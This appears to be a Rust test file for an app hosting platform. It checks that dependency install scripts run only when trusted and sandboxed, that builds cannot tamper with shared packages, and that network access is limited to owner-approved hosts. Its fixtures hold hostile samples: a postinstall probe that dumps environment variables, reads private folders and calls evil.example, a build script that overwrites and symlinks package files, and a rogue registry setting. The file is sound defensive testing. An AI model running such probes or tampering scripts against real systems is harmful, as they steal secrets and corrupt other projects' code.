//! Installs and builds: whose scripts run and what they reach, and that packages lie on disk once without
//! one project getting into another's.
use std::fs;
use std::io::{Read as _, Write as _};
use std::os::unix::fs::MetadataExt as _;
use std::path::{Path, PathBuf};

use crate::support::{Steady, Work, text};

const HELLO: &str = r#"export default { fetch: () => new Response("hello\n") };"#;

/// Every file of that name below the data folder's versions.
fn in_versions(steady: &Steady, name: &str) -> Vec<PathBuf> {
    fn walk(folder: &Path, name: &str, found: &mut Vec<PathBuf>) {
        for entry in fs::read_dir(folder).into_iter().flatten().flatten() {
            let path = entry.path();
            if path.ends_with(name) {
                found.push(path);
            } else if entry.file_type().is_ok_and(|kind| kind.is_dir()) {
                walk(&path, name, found);
            }
        }
    }
    let mut found = Vec::new();
    for app in fs::read_dir(steady.data().join("apps")).expect("apps").flatten() {
        walk(&app.path().join("versions"), name, &mut found);
    }
    found.sort();
    found
}

fn push(steady: &Steady, project: &str, files: &[(&str, &str)]) -> (Work, String) {
    let work = steady.work(project);
    work.write(files);
    work.commit("First");
    let said = work.push_ok();
    (work, said)
}

#[test]
fn only_scripts_that_the_project_trusts_run_and_only_in_the_walls() {
    let steady = Steady::start();
    let work = steady.push_new(
        "trust",
        &[("index.ts", r#"Bun.write("data.txt", "private"); export default { fetch: () => new Response("1") };"#)],
    );
    steady.cli_ok(&["env", "set", "dev/trust", "SECRET=TOPSECRET"]);
    assert_eq!(steady.get("trust", "/").ok(), "1");
    let probe = format!(
        r#"const fs = require("fs");
        const attempt = (work) => {{ try {{ work(); return "done"; }} catch (e) {{ return String(e.code ?? e); }} }};
        const seen = {{
            env: JSON.stringify(process.env),
            home: attempt(() => fs.readdirSync("/home/app")),
            data: attempt(() => fs.readdirSync({data:?})),
            store: attempt(() => fs.writeFileSync({store:?}, "evil")),
            other: await fetch("http://evil.example/").then(() => "done", (e) => String(e.code ?? e)),
            address: await fetch("http://192.0.2.7/").then(() => "done", (e) => String(e.code ?? e)),
        }};
        fs.writeFileSync("seen.json", JSON.stringify(seen));"#,
        data = steady.data().join("apps"),
        store = steady.data().join("store/evil"),
    );
    let script =
        |name: &str| format!(r#"{{"name":"{name}","version":"1.0.0","scripts":{{"postinstall":"bun probe.ts"}}}}"#);
    let (loud, quiet) = (script("loud"), script("quiet"));
    let index = r#"import { existsSync, readFileSync } from "fs";
        const seen = (name: string) => `/app/node_modules/${name}/seen.json`;
        export default { fetch: () => Response.json({
            quiet: existsSync(seen("quiet")), own: existsSync("/app/own.txt"),
            package: readFileSync("/app/package.json", "utf8"), loud: JSON.parse(readFileSync(seen("loud"), "utf8")) }) };"#;
    let package = |trusted: &str| {
        format!(
            r#"{{{trusted}"dependencies":{{"loud":"file:./loud","quiet":"file:./quiet"}},"scripts":{{"postinstall":"bun own.ts"}}}}"#
        )
    };
    let named = package(r#""trustedDependencies":["loud"],"#);
    work.write(&[
        ("package.json", &named),
        ("loud/package.json", &loud),
        ("loud/probe.ts", &probe),
        ("quiet/package.json", &quiet),
        ("quiet/probe.ts", &probe),
        ("own.ts", r#"await Bun.write("own.txt", "1");"#),
        ("index.ts", index),
    ]);
    work.commit("Packages");
    let (pushed, said) = work.push();
    assert!(!pushed && said.contains("install scripts: loud") && !said.contains("==> install"), "{said}");
    let approved = steady.cli(&["approve", "dev/trust", "--yes"]);
    let said = text(&approved.stderr);
    assert!(approved.status.success(), "{said}");
    assert!(said.contains("refused: evil.example") && said.contains("build_hosts"), "{said}");
    assert!(said.contains("refused: 192.0.2.7:80"), "{said}");
    let seen = steady.get("trust", "/").json();
    assert_eq!((&seen["quiet"], &seen["own"]), (&false.into(), &true.into()), "{seen}");
    assert!(!seen["loud"]["env"].as_str().expect("text").contains("TOPSECRET"), "{seen}");
    for tried in ["home", "data", "store", "other", "address"] {
        assert!(seen["loud"][tried].as_str().is_some_and(|end| end != "done"), "{tried}: {seen}");
    }
    assert_eq!(seen["package"], named.as_str());
    assert!(!steady.data().join("store/evil").exists());

    // Who trusts nobody gets no script of any package, and finds package.json as it was.
    let unnamed = package("");
    work.write(&[
        ("package.json", &unnamed),
        (
            "index.ts",
            &index.replace(r#"JSON.parse(readFileSync(seen("loud"), "utf8"))"#, r#"existsSync(seen("loud"))"#),
        ),
    ]);
    work.commit("Nobody");
    work.push_ok();
    let seen = steady.get("trust", "/").json();
    assert_eq!((&seen["loud"], &seen["quiet"], &seen["own"]), (&false.into(), &false.into(), &true.into()), "{seen}");
    assert_eq!(seen["package"], unnamed.as_str());
}

/// Local packages: nothing is downloaded.
#[test]
fn the_same_file_of_two_projects_lies_on_disk_once() {
    let steady = Steady::start();
    let files = [
        ("package.json", r#"{"dependencies":{"lib":"file:./lib"}}"#),
        ("lib/package.json", r#"{"name":"lib","version":"1.0.0"}"#),
        ("lib/index.js", "export default 'shared';"),
        ("index.ts", r#"import it from "lib"; export default { fetch: () => new Response(it) };"#),
    ];
    push(&steady, "one", &files);
    push(&steady, "two", &files);
    for label in ["one", "two"] {
        assert_eq!(steady.get(label, "/").ok(), "shared");
    }
    let found = in_versions(&steady, "node_modules/lib/index.js");
    let metas: Vec<_> = found.iter().map(|path| fs::metadata(path).expect("meta")).collect();
    assert_eq!(metas.len(), 2, "{found:?}");
    assert_eq!(metas[0].ino(), metas[1].ino(), "two copies");
    assert_eq!(metas[0].mode() & 0o222, 0, "shared files are nobody's to write");
    if rustix::process::geteuid().is_root() {
        assert_eq!(metas[0].uid(), 0);
    }
}

/// The same package.json and so the same set of packages; only the build of the first is hostile.
#[test]
fn what_a_build_does_to_packages_reaches_no_other_project() {
    let steady = Steady::start();
    let package = r#"{"dependencies":{"is-number":"7.0.0","kind-of":"6.0.3"},"scripts":{"build":"bun build.ts"}}"#;
    let index = r#"import isNumber from "is-number"; import kindOf from "kind-of";
        export default { fetch: () => new Response(`${isNumber(1)} ${kindOf(1)}`) };"#;
    let evil = r#"import fs from "fs";
        fs.writeFileSync("node_modules/is-number/index.js", "module.exports = () => 'evil'");
        fs.rmSync("node_modules/kind-of/index.js");
        fs.writeFileSync("evil.js", "module.exports = () => 'evil'");
        fs.symlinkSync("../../evil.js", "node_modules/kind-of/index.js");
        fs.chmodSync("node_modules/is-number/package.json", 0o666);"#;
    let files = |build| [("package.json", package), ("build.ts", build), ("index.ts", index)];
    push(&steady, "evil", &files(evil));
    assert_eq!(steady.get("evil", "/").ok(), "evil evil");
    let (_work, said) = push(&steady, "good", &files("console.log('built');"));
    assert!(said.contains("installed before"), "it should not download again:\n{said}");
    assert_eq!(steady.get("good", "/").ok(), "true number");
    let (_work, said) = push(&steady, "third", &files("import('is-number');"));
    assert!(said.contains("installed before"), "{said}");
    let shared: Vec<u64> = in_versions(&steady, "node_modules/is-number/index.js")
        .iter()
        .map(|path| fs::metadata(path).expect("meta").ino())
        .collect();
    assert_eq!(shared.len(), 3);
    assert_ne!(shared[0], shared[1], "the hostile build wrote a file of its own");
    assert_eq!(shared[1], shared[2], "two copies of the same");
    // A change of what is already shared, without a build in the way, has nothing to write to.
    let writes = r#"import fs from "fs"; let said = "wrote";
        try { fs.writeFileSync("/app/node_modules/is-number/index.js", "module.exports = () => 'evil'") }
        catch (e) { said = e.code } export default { fetch: () => new Response(said) };"#;
    let plain = r#"{"dependencies":{"is-number":"7.0.0","kind-of":"6.0.3"}}"#;
    push(&steady, "writer", &[("package.json", plain), ("index.ts", writes)]);
    assert_ne!(steady.get("writer", "/").ok(), "wrote");
    assert_eq!(steady.get("good", "/").ok(), "true number");
}

#[test]
fn a_registry_of_the_projects_own_is_the_owners_to_allow() {
    let steady = Steady::start();
    let work = steady.work("elsewhere");
    work.write(&[
        ("package.json", r#"{"dependencies":{"is-number":"7.0.0"}}"#),
        ("bunfig.toml", "[install]\nregistry = \"http://npm.evil.example/\"\n"),
        ("index.ts", HELLO),
    ]);
    work.commit("First");
    let (success, said) = work.push();
    assert!(!success && said.contains("`bun install` failed"), "{said}");
    assert!(said.contains("Refused: npm.evil.example") && said.contains("build_hosts"), "{said}");
}

/// A server on this machine's loopback, which no build may reach unless the owner says so.
#[test]
fn hosts_that_the_owner_adds_are_reached() {
    let listener = std::net::TcpListener::bind("127.0.0.1:0").expect("a listener");
    let port = listener.local_addr().expect("address").port();
    std::thread::spawn(move || {
        for mut stream in listener.incoming().flatten() {
            let _ = stream.read(&mut [0; 4096]);
            let _ = stream.write_all(b"HTTP/1.1 200 OK\r\ncontent-length: 5\r\nconnection: close\r\n\r\nthere");
        }
    });
    let build = format!(
        r#"const said = await fetch("http://localhost:{port}/").then((r) => r.text(), () => "refused"); await Bun.write("said.txt", said);"#
    );
    let files = [
        ("package.json", r#"{"scripts":{"build":"bun build.ts"}}"#),
        ("build.ts", build.as_str()),
        ("index.ts", r#"export default { fetch: () => new Response(Bun.file("/app/said.txt")) };"#),
    ];
    let steady = Steady::start();
    push(&steady, "alone", &files);
    assert_eq!(steady.get("alone", "/").ok(), "refused");
    drop(steady);
    let mut steady = Steady::prepare(&[]);
    steady.env("STEADY_BUILD_HOSTS", &format!("localhost:{port}"));
    steady.add_user("dev", true);
    steady.token = steady.new_token("dev");
    steady.launch();
    push(&steady, "joined", &files);
    assert_eq!(steady.get("joined", "/").ok(), "there");
}
